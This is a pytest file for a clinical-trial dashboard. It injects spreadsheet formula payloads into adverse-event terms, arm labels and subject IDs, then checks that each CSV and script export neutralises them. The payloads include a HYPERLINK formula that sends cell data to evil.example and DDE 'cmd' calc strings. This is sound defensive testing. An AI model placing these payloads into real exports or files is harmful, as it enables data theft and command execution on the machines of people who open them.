"""Attack run (issue 18), item 6: every export of a study whose text is hostile.

AE terms starting with =, +, -, @, tab or CR were written raw (9 of 24 exports carried formulas);
a line break in an arm label or USUBJID broke the provenance header (the injected text became the
first data row). Every download the app offers is triggered here, as a browser would, and checked.
"""

from __future__ import annotations

import ast
import base64
import csv
import io
import json
import re
import shutil

import pandas as pd
import plotly.io
import pytest

from conftest import CallbackClient
from data.study import DEFAULT_DATA

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Rash")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ARM = "Belimumab\r\n=cmd|' /C calc'!A0"
SUBJECT = ("LSO-088-003", "LSO-088-003\n@SUM(1+1)")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile") / "study"
    shutil.copytree(DEFAULT_DATA, folder)
    (folder / "LOCK.json").unlink()
    (folder / "study.toml").unlink()  # another study: not LSO-088's words nor its reference arm
    for p in folder.glob("*.parquet"):
        df = pd.read_parquet(p)
        if "TRT01A" in df.columns:
            df["TRT01A"] = df["TRT01A"].replace({"Belimumab": ARM})
        if "USUBJID" in df.columns:
            df["USUBJID"] = df["USUBJID"].replace({SUBJECT[0]: SUBJECT[1]})
        if "AEDECOD" in df.columns:
            for col in ("AEDECOD", "AETERM", "AEBODSYS"):
                df[col] = [FORMULAS[i % len(FORMULAS)] + f" {col} {i % 3}" for i in range(len(df))]
        if "PARAM" in df.columns:
            df.loc[df["PARAMCD"] == df["PARAMCD"].iloc[0], "PARAM"] = "=1+2 (g/L)"
        df.to_parquet(p, index=False)
    from app import create_app

    return create_app(folder)


def _props(app) -> dict:
    """{component id: props} of every component the app can show (as the browser holds them)."""
    import emulator  # noqa: F401

    from emulator import walk

    return walk(json.loads(plotly.io.json.to_json_plotly(app.validation_layout)), {})


def _download_ids(node, out: set) -> set:
    if isinstance(node, list):
        for n in node:
            _download_ids(n, out)
    elif isinstance(node, dict):
        if node.get("type") == "Download" and isinstance(node.get("props"), dict):
            out.add(node["props"].get("id"))
        for v in (node.get("props") or {}).values() if "props" in node else node.values():
            _download_ids(v, out)
    return out


def _downloads(app):
    ids = _download_ids(json.loads(plotly.io.json.to_json_plotly(app.validation_layout)), set())
    for key, spec in app.callback_map.items():
        parts = key[2:-2].split("...") if key.startswith("..") else [key]
        if any(p.split("@")[0] in {f"{i}.data" for i in ids} for p in parts) and "callback" in spec:
            yield key, spec


def _exports(app, store):
    """Every download callback fired with the buttons clicked and the components' own values."""
    props = _props(app)
    client = app.server.test_client()
    out = {}
    for key, spec in _downloads(app):
        def value(item):
            if item["id"] == "filter-state":
                return store
            if item["property"] == "n_clicks":
                return 1
            return props.get(item["id"], {}).get(item["property"])

        parts = key[2:-2].split("...") if key.startswith("..") else [key]
        outputs = [dict(zip(("id", "property"), p.split("@")[0].rsplit(".", 1))) for p in parts]
        body = {"output": key, "outputs": outputs if key.startswith("..") else outputs[0],
                "inputs": [{**i, "value": value(i)} for i in spec["inputs"]],
                "state": [{**s, "value": value(s)} for s in spec.get("state", [])],
                "changedPropIds": [f"{spec['inputs'][0]['id']}.{spec['inputs'][0]['property']}"]}
        r = client.post("/_dash-update-component", data=json.dumps(body), content_type="application/json")
        assert r.status_code in (200, 204), (key, r.status_code, r.get_data(as_text=True)[:300])
        out.setdefault("_status", {})[key] = r.status_code
        if r.status_code == 200:
            for comp in r.get_json()["response"].values():
                d = comp.get("data")
                if isinstance(d, dict) and "content" in d:
                    out[f"{key} -> {d.get('filename')}"] = d
    return out


@pytest.fixture(scope="module")
def exports(hostile_app):
    import sys

    from conftest import ROOT

    sys.path.insert(0, str(ROOT / "loadtest"))
    study = hostile_app.server.config["STUDY"]
    bel = next(a.code for a in study.arms if a.label.startswith("Belimumab\r"))
    store = {"arms": [bel, study.arms[1].code], "weeks": [0.0, 48.0], "patients": [SUBJECT[1]]}
    assert CallbackClient(hostile_app, hostile_app.server.test_client()).outputs(
        "page-content", "children", {"url.pathname": "/safety"}, {"url.search": ""}) is not None
    narrow = _exports(hostile_app, store)  # a line break in the filter's arm and patient
    wide = _exports(hostile_app, {**store, "patients": []})  # every AE of the arms
    status = {**narrow.pop("_status"), **{k + " (wide)": v for k, v in wide.pop("_status").items()}}
    return {**narrow, **{k + " (wide)": v for k, v in wide.items()}, "_status": status}


def test_every_csv_export_has_a_clean_header_and_no_formula_cells(exports):
    csvs = {k: d for k, d in exports.items() if str(d.get("filename", "")).endswith(".csv")}
    assert len(csvs) >= 16, exports["_status"]
    carrying = 0
    for name, d in csvs.items():
        text = d["content"]
        lines = re.split(r"\r\n|\n|\r", text)  # as any spreadsheet splits lines outside quotes
        head = [ln for ln in lines if ln.startswith("#")]
        body_start = len(head)
        assert lines[:body_start] == head, f"{name}: a provenance line was broken into the data"
        assert not lines[body_start].startswith(("=", "+", "-", "@")), name
        for ln in head:
            assert not any(ch in ln for ch in "\t\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\u202e"), (name, ln)
        body = text.split("\r\n", body_start)[-1] if "\r\n" in text else "\n".join(lines[body_start:])
        rows = list(csv.reader(io.StringIO(body, newline="")))
        assert rows, name
        for row in rows:
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert NUMBER.match(cell.strip()), f"{name}: formula cell {cell!r}"
        carrying += any("'=HYPERLINK" in c or "'@SUM" in c or "'+cmd" in c for row in rows for c in row)
    assert carrying >= 2  # the hostile terms are exported, as text


def test_generated_scripts_stay_python_with_hostile_labels(exports):
    scripts = {k: d for k, d in exports.items() if str(d.get("filename", "")).endswith(".py")}  # noqa: E501
    assert scripts
    for name, d in scripts.items():
        tree = ast.parse(d["content"])  # a line break in a label cannot end a comment or string
        assert not any(isinstance(n, ast.Name) and n.id == "cmd" for n in ast.walk(tree)), name


def test_numbers_keep_their_sign():
    from components.export import safe_frame

    df = pd.DataFrame({"x": [-1.5, 2.0], "t": ["-0.5", "-2+3"], "=h": ["a", "b"]})
    out = safe_frame(df)
    assert list(out["x"]) == [-1.5, 2.0] and list(out["t"]) == ["-0.5", "'-2+3"] and list(out.columns)[2] == "'=h"


def test_pptx_deck_is_not_checked_here(exports):
    decks = [k for k, d in exports.items() if k != "_status" and d.get("base64")]
    for k in decks:
        assert base64.b64decode(exports[k]["content"])[:2] == b"PK"

